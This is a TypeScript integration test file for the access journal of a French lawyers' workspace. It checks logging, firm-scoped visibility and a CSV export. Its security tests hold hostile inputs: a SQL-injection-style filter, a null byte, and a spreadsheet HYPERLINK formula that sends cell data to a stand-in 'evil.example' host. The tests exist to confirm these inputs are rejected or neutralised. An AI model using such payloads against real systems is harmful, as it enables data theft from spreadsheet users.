import { and, asc, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formatParisDate } from '#domain/agenda/availability/compute-free-slots.ts';
import { addCivilDays } from '#domain/kernel/time/paris-time.ts';
import { accessJournal, users } from '#server/db/schema/index.ts';
import {
  firmIdOf,
  insertAppointment,
  insertProfessionalAccount,
  moveIntoFirm,
} from '#server/test-support/factories.ts';
import { newStaffAccount } from '#server/test-support/staff-accounts.ts';
import { callAs, createTestApp, loginAs, type TTestApp } from '#server/test-support/test-app.ts';
import { recordAccess } from './access-journal-store';

// Monday 7 June 2027, 08:00 Paris: the appointments and events below are in the days after.
const NOW = new Date('2027-06-07T06:00:00Z');
const SOPHIE = 1;
const NOTE_TEXT = 'Le client craint un redressement fiscal';
const MESSAGE_TEXT = 'Voici les pièces confidentielles de votre dossier';
// The journal's time is the database's: filters by day use today's Paris date.
const TODAY = formatParisDate(new Date());

let t: TTestApp;
let sophie: string;
let thomas: string;
let luc: string;
let marie: string;
let assistant: { cookie: string; userId: string };
let sophieId: string;
let lucProfessionalId: number;

type TCall = 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';
const call = (cookie: string | undefined, method: TCall, url: string, payload?: unknown) =>
  callAs(t.app, cookie, method, url, payload);

async function userIdOf(email: string): Promise<string> {
  const [row] = await t.handle.db.select({ id: users.id }).from(users).where(eq(users.email, email));
  if (!row) throw new Error(email);
  return row.id;
}

/** The journal's lines about one record, oldest first. */
function linesOf(subject: 'contact' | 'appointment' | 'conversation' | 'planning_event', id: number) {
  return t.handle.db
    .select()
    .from(accessJournal)
    .where(and(eq(accessJournal.subject, subject), eq(accessJournal.subjectId, String(id))))
    .orderBy(asc(accessJournal.id));
}

type TPage = {
  lines: {
    id: string;
    actorName: string;
    subject: string;
    action: string;
    label: string;
    caseId: number | null;
  }[];
  nextCursor: string | null;
  scope: string;
};

async function journalPage(cookie: string, query = ''): Promise<TPage> {
  const response = await call(cookie, 'GET', `/api/pro/access-journal${query}`);
  expect(response.statusCode, response.body).toBe(200);
  return response.json() as TPage;
}

beforeAll(async () => {
  t = await createTestApp();
  t.clock.set(NOW);
  sophie = await loginAs(t.app, 'pro', 'sophie.martin@example.com');
  thomas = await loginAs(t.app, 'pro', 'thomas.bernard@example.com');
  marie = await loginAs(t.app, 'client', 'marie.dubois@example.com');
  sophieId = await userIdOf('sophie.martin@example.com');
  const account = await insertProfessionalAccount(t.handle.db, {
    email: 'luc.fontaine@example.com',
    firstName: 'Luc',
    lastName: 'Fontaine',
  });
  lucProfessionalId = account.professional.id;
  await moveIntoFirm(t.handle.db, account.user.id, await firmIdOf(t.handle.db, sophieId), 'collaborator');
  luc = await loginAs(t.app, 'pro', 'luc.fontaine@example.com');
  assistant = await newStaffAccount(t, sophie, 'assistant', [sophieId]);
  await t.handle.db
    .update(users)
    .set({ firstName: 'Julie', lastName: 'Petit' })
    .where(eq(users.id, assistant.userId));
});

afterAll(async () => {
  await t?.close();
});

describe('the access journal written by the workspace', () => {
  it('journals a contact read and every change by an assistant, in Sophie’s records, without the note', async () => {
    const created = await call(assistant.cookie, 'POST', '/api/pro/contacts', {
      firstName: 'Paul',
      lastName: 'Lefèvre',
      email: 'paul.lefevre@example.com',
      phone: '06 11 22 33 44',
    });
    expect(created.statusCode, created.body).toBe(201);
    const id = created.json().contact.id as number;
    expect((await call(assistant.cookie, 'GET', `/api/pro/contacts/${id}`)).statusCode).toBe(200);
    expect(
      (await call(assistant.cookie, 'PATCH', `/api/pro/contacts/${id}`, { city: 'Lyon' })).statusCode,
    ).toBe(200);
    const noted = await call(assistant.cookie, 'POST', `/api/pro/contacts/${id}/notes`, {
      content: NOTE_TEXT,
    });
    expect(noted.statusCode, noted.body).toBe(201);
    const noteId = noted.json().contact.notes[0].id as number;
    expect(
      (await call(assistant.cookie, 'PATCH', `/api/pro/contacts/${id}/notes/${noteId}`, { content: 'Autre' }))
        .statusCode,
    ).toBe(200);
    expect(
      (await call(assistant.cookie, 'DELETE', `/api/pro/contacts/${id}/notes/${noteId}`)).statusCode,
    ).toBe(200);
    const tagged = await call(assistant.cookie, 'POST', `/api/pro/contacts/${id}/tags`, { name: 'Divorce' });
    expect(tagged.statusCode).toBe(200);
    const tagId = tagged.json().contact.tags[0].id as number;
    expect((await call(assistant.cookie, 'DELETE', `/api/pro/contacts/${id}/tags/${tagId}`)).statusCode).toBe(
      200,
    );
    expect((await call(assistant.cookie, 'DELETE', `/api/pro/contacts/${id}`)).statusCode).toBe(200);

    const lines = await linesOf('contact', id);
    expect(lines.map((line) => [line.action, line.label])).toEqual([
      ['create', 'Fiche de Paul Lefèvre'],
      ['read', 'Fiche de Paul Lefèvre'],
      ['update', 'Fiche de Paul Lefèvre'],
      ['update', 'Note ajoutée à la fiche de Paul Lefèvre'],
      ['update', 'Note modifiée sur la fiche de Paul Lefèvre'],
      ['update', 'Note supprimée de la fiche de Paul Lefèvre'],
      ['update', 'Étiquette ajoutée à la fiche de Paul Lefèvre'],
      ['update', 'Étiquette retirée de la fiche de Paul Lefèvre'],
      ['delete', 'Fiche de Paul Lefèvre'],
    ]);
    for (const line of lines) {
      expect(line).toMatchObject({
        actorUserId: assistant.userId,
        actorName: 'Julie Petit',
        professionalId: SOPHIE,
        firmId: await firmIdOf(t.handle.db, sophieId),
      });
      expect(line.ip).toBeTruthy();
      expect(line.label).not.toContain('fiscal');
      expect(line.label).not.toContain('Divorce');
    }
  });

  it('journals nothing for a contact of another lawyer (404) nor for a refused change', async () => {
    const before = (await t.handle.db.select().from(accessJournal)).length;
    const [thomasContact] = (await call(thomas, 'GET', '/api/pro/contacts')).json().contacts;
    if (thomasContact)
      expect((await call(sophie, 'GET', `/api/pro/contacts/${thomasContact.id}`)).statusCode).toBe(404);
    expect((await call(sophie, 'GET', '/api/pro/contacts/999999')).statusCode).toBe(404);
    expect((await call(sophie, 'PATCH', '/api/pro/contacts/999999', { city: 'Lyon' })).statusCode).toBe(404);
    expect((await t.handle.db.select().from(accessJournal)).length).toBe(before);
  });

  it('journals an appointment taken by phone, read, moved, accepted and cancelled, and tells its history', async () => {
    const created = await call(assistant.cookie, 'POST', '/api/pro/appointments', {
      client: { name: 'Paul Lefèvre', email: 'paul.lefevre@example.com', phone: '06 12 34 56 78' },
      type: 'Signature acte',
      date: '2027-06-09',
      time: '14:00',
    });
    expect(created.statusCode, created.body).toBe(201);
    const id = created.json().appointment.id as number;
    expect((await call(assistant.cookie, 'GET', `/api/pro/appointments/${id}`)).statusCode).toBe(200);
    const moved = await call(sophie, 'POST', `/api/pro/appointments/${id}/reschedule`, {
      date: '2027-06-10',
      time: '15:00',
    });
    expect(moved.statusCode, moved.body).toBe(200);
    expect((await call(assistant.cookie, 'POST', `/api/pro/appointments/${id}/accept`)).statusCode).toBe(200);
    const noted = await call(sophie, 'POST', `/api/pro/appointments/${id}/notes`, { content: NOTE_TEXT });
    expect(noted.statusCode, noted.body).toBe(201);
    const cancelled = await call(assistant.cookie, 'POST', `/api/pro/appointments/${id}/cancel`, {
      reason: 'Empêchement',
      internalNote: NOTE_TEXT,
    });
    expect(cancelled.statusCode, cancelled.body).toBe(200);

    const lines = await linesOf('appointment', id);
    expect(lines.map((line) => [line.action, line.actorName, line.label])).toEqual([
      ['create', 'Julie Petit', 'Rendez-vous de Paul Lefèvre, le 9 juin 2027 à 14:00'],
      ['read', 'Julie Petit', 'Rendez-vous de Paul Lefèvre, le 9 juin 2027 à 14:00'],
      ['reschedule', 'Sophie Martin', 'Rendez-vous de Paul Lefèvre, le 10 juin 2027 à 15:00'],
      ['accept', 'Julie Petit', 'Rendez-vous de Paul Lefèvre, le 10 juin 2027 à 15:00'],
      ['update', 'Sophie Martin', 'Note ajoutée au rendez-vous de Paul Lefèvre, le 10 juin 2027 à 15:00'],
      ['cancel', 'Julie Petit', 'Rendez-vous de Paul Lefèvre, le 10 juin 2027 à 15:00'],
    ]);
    expect(lines.every((line) => line.professionalId === SOPHIE)).toBe(true);
    expect(lines.some((line) => line.label.includes('Signature'))).toBe(false);

    for (const cookie of [sophie, assistant.cookie]) {
      const history = await call(cookie, 'GET', `/api/pro/appointments/${id}/history`);
      expect(history.statusCode, history.body).toBe(200);
      expect(
        history.json().history.map((entry: { kind: string; actor: string }) => [entry.kind, entry.actor]),
      ).toEqual([
        ['create', 'Julie Petit, assistant(e)'],
        ['reschedule', 'Maître Sophie Martin'],
        ['accept', 'Julie Petit, assistant(e)'],
        ['update', 'Maître Sophie Martin'],
        ['cancel', 'Julie Petit, assistant(e)'],
      ]);
    }
    // Another firm's lawyer: not found, never the history.
    expect((await call(thomas, 'GET', `/api/pro/appointments/${id}/history`)).statusCode).toBe(404);
  });

  it('starts a client’s request’s history with « Demande reçue » and journals a refusal', async () => {
    const booked = await insertAppointment(t.handle.db, {
      professionalId: SOPHIE,
      clientUserId: await userIdOf('marie.dubois@example.com'),
      startsAt: new Date('2027-06-11T08:00:00Z'),
      endsAt: new Date('2027-06-11T09:00:00Z'),
      status: 'pending',
      reason: 'Divorce',
    });
    const refused = await call(assistant.cookie, 'POST', `/api/pro/appointments/${booked.id}/refuse`, {});
    expect(refused.statusCode, refused.body).toBe(200);
    const history = (await call(sophie, 'GET', `/api/pro/appointments/${booked.id}/history`)).json().history;
    expect(history).toEqual([
      { at: booked.createdAt.toISOString(), kind: 'received', actor: null },
      { at: expect.any(String), kind: 'refuse', actor: 'Julie Petit, assistant(e)' },
    ]);
    expect((await linesOf('appointment', booked.id)).map((line) => line.label)).toEqual([
      'Rendez-vous de Marie Dubois, le 11 juin 2027 à 10:00',
    ]);
  });

  it('journals a secure thread read and a message sent by the lawyer, never the text', async () => {
    await insertAppointment(t.handle.db, {
      professionalId: SOPHIE,
      clientUserId: await userIdOf('marie.dubois@example.com'),
      startsAt: new Date('2027-06-01T08:00:00Z'),
      endsAt: new Date('2027-06-01T09:00:00Z'),
      reason: 'Divorce',
    });
    const opened = await call(marie, 'POST', '/api/client/conversations', { professionalId: SOPHIE });
    expect(opened.statusCode, opened.body).toBe(200);
    const id = opened.json().conversation.id as number;
    // The client's own reads are not the workspace's: no line.
    expect((await call(marie, 'GET', `/api/client/conversations/${id}/messages`)).statusCode).toBe(200);
    expect((await call(sophie, 'GET', `/api/pro/conversations/${id}/messages`)).statusCode).toBe(200);
    const sent = await call(sophie, 'POST', `/api/pro/conversations/${id}/messages`, { body: MESSAGE_TEXT });
    expect(sent.statusCode, sent.body).toBe(201);
    const lines = await linesOf('conversation', id);
    expect(lines.map((line) => [line.action, line.actorName, line.label])).toEqual([
      ['read', 'Sophie Martin', 'Messagerie avec Marie Dubois'],
      ['create', 'Sophie Martin', 'Message envoyé à Marie Dubois'],
    ]);
    expect(JSON.stringify(lines)).not.toContain('confidentielles');
  });

  it('journals a planning event created, changed and deleted by the assistant, without its title', async () => {
    const created = await call(assistant.cookie, 'POST', '/api/pro/events', {
      title: 'Audience affaire Morel',
      type: 'audience',
      date: '2027-06-14',
      startTime: '09:00',
      endTime: '11:00',
    });
    expect(created.statusCode, created.body).toBe(201);
    const id = created.json().event.id as number;
    const changed = await call(assistant.cookie, 'PUT', `/api/pro/events/${id}`, {
      title: 'Audience affaire Morel',
      type: 'audience',
      date: '2027-06-14',
      startTime: '10:00',
      endTime: '12:00',
    });
    expect(changed.statusCode, changed.body).toBe(200);
    expect((await call(assistant.cookie, 'DELETE', `/api/pro/events/${id}`)).statusCode).toBe(200);
    const lines = await linesOf('planning_event', id);
    expect(lines.map((line) => [line.action, line.actorUserId, line.label])).toEqual([
      ['create', assistant.userId, 'Événement du 14 juin 2027 à 09:00'],
      ['update', assistant.userId, 'Événement du 14 juin 2027 à 10:00'],
      ['delete', assistant.userId, 'Événement du 14 juin 2027 à 10:00'],
    ]);
    expect(lines.every((line) => line.professionalId === SOPHIE)).toBe(true);
  });
});

describe('GET /api/pro/access-journal', () => {
  beforeAll(async () => {
    // A line of Luc's records (the collaborator) and one of Thomas's (another firm).
    const [lucUser] = await t.handle.db
      .select()
      .from(users)
      .where(eq(users.email, 'luc.fontaine@example.com'));
    const thomasId = await userIdOf('thomas.bernard@example.com');
    await recordAccess(
      t.handle.db,
      { userId: lucUser?.id ?? '', ip: '10.0.0.2' },
      {
        professionalId: lucProfessionalId,
        subject: 'contact',
        subjectId: 1,
        action: 'read',
        label: 'Fiche de Claire Roux',
      },
    );
    await recordAccess(
      t.handle.db,
      { userId: thomasId, ip: '10.0.0.3' },
      {
        professionalId: 2,
        subject: 'contact',
        subjectId: 2,
        action: 'read',
        label: 'Fiche de Bruno Vidal',
      },
    );
  });

  it('shows an associate every line of the firm, a collaborator only their own, another firm nothing', async () => {
    const all = await journalPage(sophie, '?limit=100');
    expect(all.scope).toBe('firm');
    const labels = all.lines.map((line) => line.label);
    expect(labels).toContain('Fiche de Claire Roux');
    expect(labels).toContain('Fiche de Paul Lefèvre');
    expect(labels).not.toContain('Fiche de Bruno Vidal');

    const own = await journalPage(luc, '?limit=100');
    expect(own.scope).toBe('own');
    expect(own.lines.map((line) => line.label)).toEqual(['Fiche de Claire Roux']);

    const other = await journalPage(thomas, '?limit=100');
    expect(other.lines.map((line) => line.label)).toEqual(['Fiche de Bruno Vidal']);
  });

  it('is refused to staff, and to a signed-out visitor', async () => {
    const refused = await call(assistant.cookie, 'GET', '/api/pro/access-journal');
    expect(refused.statusCode).toBe(403);
    expect((await call(assistant.cookie, 'GET', '/api/pro/access-journal/export.csv')).statusCode).toBe(403);
    expect((await call(undefined, 'GET', '/api/pro/access-journal')).statusCode).toBe(401);
    expect((await call(marie, 'GET', '/api/pro/access-journal')).statusCode).toBe(401);
  });

  it('filters by subject, action, actor and Paris days', async () => {
    const reads = await journalPage(sophie, '?subject=appointment&action=read&limit=100');
    expect(reads.lines.length).toBeGreaterThan(0);
    expect(reads.lines.every((line) => line.subject === 'appointment' && line.action === 'read')).toBe(true);
    const byJulie = await journalPage(sophie, '?actor=julie&limit=100');
    expect(byJulie.lines.length).toBeGreaterThan(0);
    expect(byJulie.lines.every((line) => line.actorName === 'Julie Petit')).toBe(true);
    // A LIKE pattern typed in the field is text, not a wildcard.
    expect((await journalPage(sophie, '?actor=%25')).lines).toEqual([]);
    expect((await journalPage(sophie, `?from=${TODAY}&to=${TODAY}&limit=100`)).lines.length).toBe(
      (await journalPage(sophie, '?limit=100')).lines.length,
    );
    expect((await journalPage(sophie, `?from=${addCivilDays(TODAY, 1)}`)).lines).toEqual([]);
    expect((await journalPage(sophie, `?to=${addCivilDays(TODAY, -1)}`)).lines).toEqual([]);
    expect((await journalPage(sophie, '?caseId=424242')).lines).toEqual([]);
  });

  it('pages latest first by cursor, at most 100 lines a page', async () => {
    const first = await journalPage(sophie, '?limit=2');
    expect(first.lines).toHaveLength(2);
    expect(first.nextCursor).toBe(first.lines[1]?.id);
    const second = await journalPage(sophie, `?limit=2&cursor=${first.nextCursor}`);
    expect(second.lines).toHaveLength(2);
    expect(Number(second.lines[0]?.id)).toBeLessThan(Number(first.lines[1]?.id));
    const everything = await journalPage(sophie, '?limit=100');
    expect(everything.lines.slice(0, 4).map((line) => line.id)).toEqual(
      [...first.lines, ...second.lines].map((line) => line.id),
    );
    expect((await call(sophie, 'GET', '/api/pro/access-journal?limit=101')).statusCode).toBe(400);
  });

  it('answers 400 to hostile filters', async () => {
    for (const query of [
      `actor=${'a'.repeat(1_000_000)}`,
      'actor=Julie%00',
      'subject=users',
      'action=drop',
      'caseId=1%20or%201%3D1',
      'from=2027-02-30',
      'cursor=-1',
      'firmId=2',
    ]) {
      const response = await call(sophie, 'GET', `/api/pro/access-journal?${query}`);
      expect(response.statusCode, query.slice(0, 40)).toBe(400);
      const exported = await call(sophie, 'GET', `/api/pro/access-journal/export.csv?${query}`);
      expect(exported.statusCode, query.slice(0, 40)).toBe(400);
    }
  });
});

describe('GET /api/pro/access-journal/export.csv', () => {
  it('streams the filtered lines for French spreadsheets, hostile text made harmless', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")';
    await recordAccess(
      t.handle.db,
      { userId: sophieId, ip: '10.0.0.1' },
      {
        professionalId: SOPHIE,
        subject: 'contact',
        subjectId: 77,
        action: 'update',
        label: `${hostile}\u0000; fin`,
      },
    );
    await t.handle.db.update(users).set({ firstName: '@SUM(1+1)' }).where(eq(users.id, assistant.userId));
    const response = await call(sophie, 'GET', '/api/pro/access-journal/export.csv?subject=contact');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="journal-acces-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const body = response.body;
    expect(body.startsWith('\uFEFFDate;Heure;Qui;Pour;Quoi;Objet;Action;Dossier;Adresse IP\r\n')).toBe(true);
    expect(body).not.toContain('\u0000');
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Cliquez"") ; fin"`);
    const rows = body.slice(1).trimEnd().split('\r\n');
    // Only contact lines, each cell safe: none starts like a formula unless quoted with an apostrophe.
    for (const row of rows.slice(1)) {
      expect(row).toContain(';Contact;');
      expect(row).not.toMatch(/(^|;)[=+\-@]/);
    }
    // The actor's name is frozen when written: the account renamed since changes nothing.
    expect(body).toContain(';Julie Petit;Sophie Martin;Contact;Fiche de Paul Lefèvre;Création;;');
    const associateOnly = await call(luc, 'GET', '/api/pro/access-journal/export.csv');
    expect(associateOnly.body).toContain('Fiche de Claire Roux');
    expect(associateOnly.body).not.toContain('Paul Lefèvre');
  });
});
